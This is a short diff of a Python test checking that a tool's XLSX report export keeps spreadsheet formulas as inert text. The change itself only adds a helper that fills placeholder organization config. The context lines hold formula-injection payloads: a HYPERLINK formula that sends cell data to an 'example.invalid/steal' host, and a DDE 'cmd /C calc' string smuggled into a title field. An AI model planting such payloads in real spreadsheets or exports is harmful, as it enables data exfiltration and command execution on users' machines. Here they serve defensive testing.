@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from scheduler.config import config_template
+from support.organization import fill_organization
 
 FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1, "Bấm vào đây")'
 
@@ -33,6 +34,7 @@ def test_report_xlsx_keeps_formulas_as_text(project):
     project.ok("log", "add", "--campaign", "tuan-le", "--kind", "offline", "--title", "@SUM(1+1)*cmd|' /C calc'!A0",
                "--place", "+1+1", "--count", "3")
     target = project.root / "r.xlsx"
+    fill_organization(project.config)  # the shipped config.toml holds placeholders
     project.ok("report", "--campaign", "tuan-le", "--format", "xlsx", "-o", str(target))
     workbook = load_workbook(target)
     cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
